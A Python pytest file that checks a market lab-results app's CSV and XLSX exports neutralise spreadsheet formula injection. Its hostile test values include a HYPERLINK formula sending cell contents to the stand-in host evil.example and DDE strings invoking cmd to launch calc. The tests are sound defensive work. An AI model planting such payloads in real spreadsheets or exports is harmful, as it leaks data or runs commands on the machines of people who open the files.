"""Formula injection: lab-controlled text reaches CSV and XLSX exports as text, never a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io

import openpyxl
import pytest
from flask.testing import FlaskClient
from sqlalchemy.orm import Session, sessionmaker

from fangxin.contract.cells import safe_cell
from fangxin.devices.export import report_csv, report_xlsx
from tests.helpers import CST
from tests.results_helpers import (  # noqa: F401 - fixtures
    auth,
    post,
    posted,
    pristine_catalogue,
    seeded_catalogue,
    setup_market,
)

pytestmark = pytest.mark.usefixtures("pristine_catalogue")
HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "stall": "+1+cmd|' /C calc'!A0",
    "tester": "@SUM(1+1)*cmd|' /C calc'!A0",
    "reagent_lot": "-2+3",
}


def hostile_result() -> dict[str, object]:
    body = posted("=1+1", 37.5, tester=HOSTILE["tester"], reagent_lot=HOSTILE["reagent_lot"])
    body["sample"] = {"name": HOSTILE["name"], "category": "蔬菜", "stall": HOSTILE["stall"]}
    return body


def test_lab_text_is_neutralised_in_csv_and_xlsx(
    client: FlaskClient, sessions: sessionmaker[Session]
) -> None:
    today = dt.datetime.now(CST).date().isoformat()  # no later than the result's day
    keys = setup_market(sessions)
    assert post(client, keys.lab, hostile_result()).status_code == 201
    url = f"/api/v1/results/export?from={today}"
    text = client.get(url, headers=auth(keys.regulator)).get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    cells = [c for row in rows[1:] for c in row]
    xlsx = client.get(url + "&format=xlsx", headers=auth(keys.regulator))
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.data)).active
    assert sheet is not None
    values = [c.value for row in sheet.iter_rows(min_row=2) for c in row]
    for written in (cells, values):
        for hostile in [*HOSTILE.values(), "=1+1"]:
            assert hostile not in written  # nothing begins with = + - @ any more
            assert "'" + hostile in written  # shown as the text it was
        assert 37.5 in written or "37.5" in written  # numbers stay numbers
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def test_every_writer_uses_the_one_sanitiser() -> None:
    report = {
        "summary": [{"district": "=cmd()", "sites": 3, "uptime": -0.5}],
        "coverage": [],
        "sites": [{"site": "@x", "name": "\t=1", "online_s": 10}],
        "devices": [{"device": "+1", "site": "-x", "name": "=HYPERLINK(1)"}],
        "from": "2026-11-01T00:00:00+08:00",
        "to": "2026-11-02T00:00:00+08:00",
        "as_of": "2026-11-02T00:00:00+08:00",
        "business_hours": False,
        "unknown_periods": [],
    }
    assert "'=cmd()" in report_csv(report, "summary")
    assert ",-0.5" in report_csv(report, "summary")
    assert "'=cmd()" in report_csv(report, "summary", legacy=True)
    assert "'@x,'\t=1" in report_csv(report)
    assert "'+1,,'-x,'=HYPERLINK(1)" in report_csv(report, "devices")
    book = openpyxl.load_workbook(io.BytesIO(report_xlsx(report)))
    summary = [c.value for c in book["汇总"][2]]
    assert summary[0] == "'=cmd()"
    assert -0.5 in summary
    assert [c.value for c in book["单位"][2]][:2] == ["'@x", "'\t=1"]
    assert safe_cell(-3) == -3
    assert safe_cell("菠菜") == "菠菜"
    assert safe_cell(" =1") == "' =1"
